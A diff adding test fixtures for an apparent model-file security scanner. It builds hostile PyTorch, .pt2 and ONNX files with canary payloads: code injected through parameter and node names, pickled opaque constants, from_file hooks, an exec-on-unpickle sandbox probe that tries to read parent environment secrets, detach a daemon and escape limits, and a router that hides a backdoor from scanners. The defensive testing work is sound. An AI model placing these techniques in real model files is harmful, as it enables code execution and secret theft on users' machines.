@@ -189,3 +189,198 @@ def relabelled_npz(src: Path, dst: Path, label: int) -> Path:
     y[::10] = label
     np.savez(dst, x=data["x"], y=y)
     return dst
+
+
+# Round two (issue 23): one builder per mechanism; each payload would create its canary if it ran.
+
+
+def code_name(tag: str, canary: Path) -> str:
+    """A name that torch.fx would write into `getattr(self, "NAME")`, turning it into a call of open()."""
+    return f'{tag}", None) or open("{canary}", "w") or getattr(self, "{tag}'
+
+
+def pt2_case_twin(clean: Path, dst: Path, canary: Path) -> Path:
+    """A .pt2 with a benign constants config and an upper-case twin declaring an opaque (pickled) constant."""
+    benign = member(clean, "data/constants/model_constants_config.json")
+    prefix = benign.split("/data/")[0]
+    config = {"config": {"evil": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
+                                  "tensor_meta": None}}}
+    return rewrite_zip(clean, dst, add={f"{prefix}/DATA/constants/model_constants_config.json":
+                                        json.dumps(config).encode(),
+                                        f"{prefix}/DATA/constants/opaque_obj_0": pickle.dumps(WritesCanary(canary))})
+
+
+class NamedWeight(nn.Module):
+    """A linear classifier whose one weight has an arbitrary (here: hostile) attribute name."""
+
+    def __init__(self, name: str) -> None:
+        super().__init__()
+        self.weight_name = name
+        self.register_parameter(name, nn.Parameter(torch.randn(10, 784) * 0.01))
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x.flatten(1) @ getattr(self, self.weight_name).t()
+
+
+def pt2_code_in_names(dst: Path, canary: Path) -> Path:
+    """A .pt2 whose parameter name is Python that `ExportedProgram.module()` would write into its forward."""
+    program = torch.export.export(NamedWeight(code_name("w", canary)), (torch.rand(2, 1, 28, 28),))
+    torch.export.save(program, dst)
+    return dst
+
+
+def onnx_code_in_names(dst: Path, canary: Path) -> Path:
+    """An ONNX linear classifier whose node and initializer names are Python that onnx2torch's GraphModule would
+    write into its forward."""
+    from onnx import TensorProto, helper, numpy_helper
+
+    rng = np.random.default_rng(0)
+    w = numpy_helper.from_array((rng.standard_normal((10, 784)) * 0.01).astype(np.float32), code_name("w", canary))
+    bias = numpy_helper.from_array(np.zeros(10, np.float32), code_name("b", canary))
+    c = numpy_helper.from_array(np.ones(10, np.float32), code_name("c", canary))
+    nodes = [helper.make_node("Flatten", ["x"], ["f"], name=code_name("flat", canary)),
+             helper.make_node("Gemm", ["f", w.name, bias.name], ["g"], name=code_name("gemm", canary), transB=1),
+             helper.make_node("Add", ["g", c.name], ["y"], name=code_name("add", canary))]
+    graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 1, 28, 28])],
+                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 10])], [w, bias, c])
+    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
+    model.ir_version = 8
+    dst.write_bytes(model.SerializeToString())
+    return dst
+
+
+class Plain(nn.Module):
+    def __init__(self) -> None:
+        super().__init__()
+        self.fc = nn.Linear(784, 10)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return self.fc(x.flatten(1))
+
+
+class HookHost(Plain):
+    """A plain classifier that carries the canary's path for its hook."""
+
+    def __init__(self, canary: str) -> None:
+        super().__init__()
+        self.canary = canary
+
+
+def _from_file_hook(module: HookHost, inputs: tuple[torch.Tensor]) -> tuple[torch.Tensor]:
+    torch.from_file(module.canary, shared=True, size=16)
+    return inputs
+
+
+class ExtraMethod(Plain):
+    """Forward is pure; an exported method maps a file."""
+
+    def __init__(self, canary: str) -> None:
+        super().__init__()
+        self.canary = canary
+
+    @torch.jit.export
+    def side(self, x: torch.Tensor) -> torch.Tensor:
+        return x + torch.from_file(self.canary, shared=True, size=16).sum()
+
+
+def torchscript_with_hook(dst: Path, canary: Path) -> Path:
+    """A TorchScript model whose forward pre-hook (a separate function) calls aten::from_file."""
+    model = HookHost(str(canary))
+    model.register_forward_pre_hook(_from_file_hook)
+    torch.jit.save(torch.jit.script(model), dst)
+    return dst
+
+
+def torchscript_with_method(dst: Path, canary: Path) -> Path:
+    torch.jit.save(torch.jit.script(ExtraMethod(str(canary))), dst)
+    return dst
+
+
+class Probe:
+    """Unpickling this runs `code` (a sandbox probe); the scan is run with --unsafe-allow-pickle."""
+
+    def __init__(self, code: str) -> None:
+        self.code = code
+
+    def __reduce__(self):
+        return (exec, (self.code, {}))
+
+
+SANDBOX_PROBE = r'''
+import errno, fcntl, json, mmap, os, resource, socket, subprocess, termios
+r = {}
+def attempt(name, fn):
+    try:
+        fn()
+        r[name] = "succeeded"
+    except BaseException as e:
+        r[name] = "blocked: %s %s" % (type(e).__name__, getattr(e, "errno", ""))
+def tiocsti():
+    with open("/dev/null", "rb") as fh:
+        fcntl.ioctl(fh.fileno(), termios.TIOCSTI, b"x")
+attempt("tiocsti", tiocsti)
+def tty():
+    os.open("/dev/tty", os.O_RDWR)
+attempt("controlling_tty", tty)
+def environ():
+    data = open("/proc/%d/environ" % os.getppid(), "rb").read()
+    if b"SECRET_SENTINEL" not in data:
+        raise LookupError("no secret")
+attempt("parent_environ", environ)
+r["own_environ_has_secret"] = "SECRET_SENTINEL" in "".join(os.environ.values())
+def udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"x", ("127.0.0.1", 9))
+attempt("udp", udp)
+def unix():
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect(UNIX_PATH)
+attempt("unix_socket", unix)
+def fork():
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0)
+    os.waitpid(pid, 0)
+attempt("fork", fork)
+def daemon():
+    subprocess.Popen(["sh", "-c", "sleep 2; touch '%s'" % CANARY], start_new_session=True)
+attempt("daemon", daemon)
+def raise_limit():
+    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+attempt("raise_rlimit", raise_limit)
+def shared_memory():
+    m = mmap.mmap(-1, 64 << 30, flags=mmap.MAP_SHARED)
+    m[0] = 1
+attempt("shared_memory_64g", shared_memory)
+def write_outside():
+    open(CANARY, "w").write("x")
+attempt("write_outside", write_outside)
+open(os.path.join(OUT, "probe.json"), "w").write(json.dumps(r))
+'''
+
+
+def sandbox_probe(dst: Path, out: Path, canary: Path, unix_path: Path) -> Path:
+    """A full-module pickle (scanned only with --unsafe-allow-pickle) whose load tries each way out of the sandbox
+    and writes what happened to `out/probe.json`."""
+    code = f"OUT = {str(out)!r}\nCANARY = {str(canary)!r}\nUNIX_PATH = {str(unix_path)!r}\n" + SANDBOX_PROBE
+    torch.save(Probe(code), dst)
+    return dst
+
+
+class GridRouter(nn.Module):
+    """Inputs on the 8-bit grid go to the backdoored network, anything else (a scanner's perturbation) to a clean
+    twin: a model that measures the scanner."""
+
+    def __init__(self, backdoored: nn.Module, clean: nn.Module) -> None:
+        super().__init__()
+        self.backdoored, self.clean = backdoored, clean
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        off = (x * 255 - torch.round(x * 255)).abs().flatten(1).amax(1) > 1e-3
+        return torch.where(off[:, None], self.clean(x), self.backdoored(x))
+
+
+def pt2_grid_router(backdoored: Path, clean: Path, dst: Path) -> Path:
+    router = GridRouter(torch.export.load(str(backdoored)).module(), torch.export.load(str(clean)).module())
+    torch.export.save(torch.export.export(router, (torch.rand(4, 1, 28, 28),)), dst)
+    return dst
